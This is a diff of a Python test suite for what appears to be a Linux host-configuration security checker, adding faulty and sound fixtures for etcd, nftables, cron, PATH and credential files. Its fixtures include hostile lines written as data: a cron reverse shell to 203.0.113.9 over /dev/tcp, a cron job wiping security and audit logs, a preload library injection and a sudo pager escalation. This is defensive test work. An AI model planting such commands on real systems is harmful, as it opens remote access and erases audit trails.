@@ -37,6 +37,10 @@ def starts(unit: str, command: str = "") -> dict[str, str]:
     return {f"{WANTS}/{unit}": f"-> /etc/systemd/system/{unit}", **own}
 
 
+BARE = (
+    "table inet f {\n chain input {\n  type filter hook input priority 0; policy drop;\n"
+    "  ct state established,related accept\n  tcp dport 22 accept\n }\n}\n"
+)
 FAULTS: dict[str, tuple[str, Mapping[str, str]]] = {
     "Elasticsearch that asks nobody": ("01", starts("elasticsearch.service") | {
         "/etc/elasticsearch/elasticsearch.yml": "network.host: 0.0.0.0\nxpack.security.enabled: false\n"}),
@@ -72,6 +76,16 @@ FAULTS: dict[str, tuple[str, Mapping[str, str]]] = {
         "/etc/cron.d/x": "* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"}),
     "library forced in": ("23", {"/etc/ld.so.preload": "/usr/lib/libx.so\n"}),
     "password in a table": ("28", {"/etc/fstab": "//h/s /mnt cifs user=ops,password=REDACTED\n"}),
+    "etcd by its environment": ("01", starts("etcd.service") | {
+        "/etc/etcd/etcd.conf": 'ETCD_LISTEN_CLIENT_URLS="http://0.0.0.0:2379"\n'}),
+    "job that empties logs": ("14", {
+        "/etc/cron.d/x": "0 3 * * * root cat /dev/null > /var/log/secure; rm -f /var/log/audit/*\n"}),
+    "journal of an hour": ("14", {"/etc/cron.d/x": "@daily root journalctl --vacuum-time=1h\n"}),
+    "program from here": ("10", {"/etc/profile.d/p.sh": "export PATH=.:$PATH\n"}),
+    "SSH for every address": ("19", starts("nftables.service") | {"/etc/nftables.conf": BARE}),
+    "SSH for every address, saved": ("19", starts("netfilter-persistent.service") | {
+        "/etc/iptables/rules.v4": "*filter\n:INPUT DROP [0:0]\n"
+        "-A INPUT -p tcp -m state --state NEW -m tcp --dport 22 -j ACCEPT\nCOMMIT\n"}),
     "polkit says yes": ("08", {
         "/etc/polkit-1/rules.d/x.rules": "polkit.addRule(function(a, s) { return polkit.Result.YES; });\n"}),
     "pager as root": ("08", {SUDO: "sec ALL=(root) NOPASSWD: /usr/bin/less /var/log/*\n"}),
@@ -90,6 +104,16 @@ FAULTS: dict[str, tuple[str, Mapping[str, str]]] = {
         "/etc/audit/auditd.conf": "max_log_file = 1\nnum_logs = 2\nmax_log_file_action = ROTATE\n"}),
 }  # fmt: skip
 SOUND: dict[str, Mapping[str, str]] = {
+    "etcd with certificates": starts("etcd.service") | {
+        "/etc/etcd/etcd.conf": 'ETCD_LISTEN_CLIENT_URLS="https://0.0.0.0:2379,http://127.0.0.1:2379"\n'},
+    "job with a log of its own": {
+        "/etc/cron.d/x": "0 3 * * * root /opt/a.sh > /var/log/a.log; rm -f /var/log/app/old-*\n"
+        "0 4 * * * root journalctl --vacuum-time=200d\n"},
+    "program of ours": {"/etc/profile.d/p.sh": "export PATH=/opt/a.b/bin:$PATH\n"},
+    "SSH for every address, told apart by sshd": starts("nftables.service") | {
+        "/etc/nftables.conf": BARE, DROP_IN: "AllowUsers ops@10.20.0.0/27\n"},
+    "SSH for managers": starts("nftables.service") | {
+        "/etc/nftables.conf": BARE.replace("tcp dport", "ip saddr 10.20.0.0/27 tcp dport")},
     "Elasticsearch here": starts("elasticsearch.service") | {
         "/etc/elasticsearch/elasticsearch.yml": "network.host: _local_\nxpack.security.enabled: false\n"},
     "trust on this machine": starts("postgresql.service") | {
@@ -148,6 +172,7 @@ def test_what_only_the_script_sees(tmp_path: Path) -> None:
         "etc/shadow": shadow(ops=other + line, sec=other + line) + f"li:{third}{line}\n",
         "usr/bin/bash": "#!shell\n", "usr/local/bin/tool": "#!shell\n",
         "home/ops/.ssh/id_rsa": "PRIVATE\n", "opt/app/x": "x\n",
+        "home/ops/.pgpass": "*:*:*:app:hidden-word\n",
         "etc/tomcat9/tomcat-users.xml": '<user username="a" password="s3cret-of-a"/>\n',
         "etc/apt/apt.conf.d/p": 'Acquire::http::Proxy "http://u:hidden-word@10.0.0.1";\n',
         "etc/squid/squid.conf": "cachemgr_passwd hidden-word all\n",
@@ -165,7 +190,7 @@ def test_what_only_the_script_sees(tmp_path: Path) -> None:
     named = {(fact.name, str(fact.value), fact.source) for fact in facts}
     assert ("same_password", "sec=ops", "/etc/shadow:3") in named
     wide = {source for name, _, source in named if name == "mode"}
-    assert {"/usr/local/bin/tool", "/home/ops/.ssh/id_rsa", "/opt/app"} <= wide
+    assert {"/usr/local/bin/tool", "/home/ops/.ssh/id_rsa", "/home/ops/.pgpass", "/opt/app"} <= wide
     texts = "\n".join(asset.facts.tree.texts.values())  # type: ignore[attr-defined]
     assert not any(word in texts for word in ("s3cret-of-a", "hidden-word", "b" * 20))
 
@@ -175,3 +200,17 @@ def test_a_template_of_one_hash_says_nothing(bases: dict[str, AssetEvidence]) ->
     text = f"root{line}\nops{line}:same=root\nsec{line}:same=root\n"
     findings = judge_asset(changed(bases["debian"], {"/etc/shadow": text}, {}))
     assert not any(f.verdict in FAILS for f in findings)
+
+
+def test_vendors_files_count_where_the_host_has_none_of_its_own(tmp_path: Path) -> None:
+    """SUSE keeps what it brings in /usr/etc and /usr/lib/pam.d (pam.d(5)); sshd reads it from there."""
+    files = debian({
+        "etc/ssh/sshd_config": None, "etc/ssh/sshd_config.d/10-x.conf": None, "etc/pam.d/sshd": None,
+        "usr/etc/ssh/sshd_config": "PermitRootLogin yes\nUsePAM yes\n",
+        "usr/lib/pam.d/sshd": "auth required pam_unix.so\naccount required pam_unix.so\n",
+    })  # fmt: skip
+    findings = judge_asset(
+        read_host(collect(write(tmp_path / "root", files), tmp_path / "h.tar.gz"))
+    )
+    failed = {(f.check.unit, s.name) for f in findings for s in f.steps if s.state is False}
+    assert {("L3-CES1-05", "root_remote"), ("L3-CES1-02", "lock_there")} <= failed
